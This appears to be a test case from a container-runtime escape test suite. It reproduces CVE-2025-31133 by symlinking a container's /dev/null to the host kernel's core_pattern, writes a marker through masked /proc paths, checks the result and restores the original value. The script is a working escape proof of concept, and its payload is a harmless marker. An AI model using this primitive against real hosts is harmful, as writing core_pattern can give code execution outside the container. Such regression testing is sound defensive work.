# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# Masks are made of /dev/null: one of the tree's may be a link to anything, and what it is bound over is then the door to that.
WHAT='CVE-2025-31133: /dev/null of the tree is a link to core_pattern, or a file of its own, where masks are made of it'
MAY_REFUSE=yes

setup() {
        cat /proc/sys/kernel/core_pattern >"$PREY/pattern"
        ! grep -q core.escape "$PREY/pattern" || fail "an earlier run has left core.escape"
        mkdir -p "$TREE/dev"
        ln -sfn /proc/sys/kernel/core_pattern "$TREE/dev/null"
}

attack() {
        for file in /dev/null /proc/kcore /proc/keys /proc/timer_list /proc/kmsg /proc/sysrq-trigger /proc/latency_stats /sys/firmware; do
                [ -f "$file" ] || [ -c "$file" ] && echo core.escape >"$file"
        done 2>/dev/null
        busybox stat -c '%F %t:%T' /dev/null
}

verdict() {
        if [ "$(cat /proc/sys/kernel/core_pattern)" != "$(cat "$PREY/pattern")" ]; then
                works "core_pattern was written"
        elif printed 'character special file 1:3'; then
                blocked "/dev/null is the device, core_pattern as it was"
        else
                works "/dev/null is $(tail -n 1 "$OUT")"
        fi
}

undo() { cat "$PREY/pattern" >/proc/sys/kernel/core_pattern; }

# A mask by path, in a mount namespace whose /dev is the tree's and whose sysctls are read-only.
control() {
        local got
        got=$(unshare --mount sh -c "
                mount --bind /proc '$TREE/proc' && mount --bind /proc/sys '$TREE/proc/sys' && mount -o remount,bind,ro '$TREE/proc/sys'
                mount --bind '$TREE/dev/null' '$TREE/proc/timer_list' && chroot '$TREE' /bin/busybox sh -c 'echo core.escape >/proc/timer_list'
                cat /proc/sys/kernel/core_pattern")
        if [ "$got" = core.escape ]; then works "written through the mask"; else blocked "$got"; fi
}
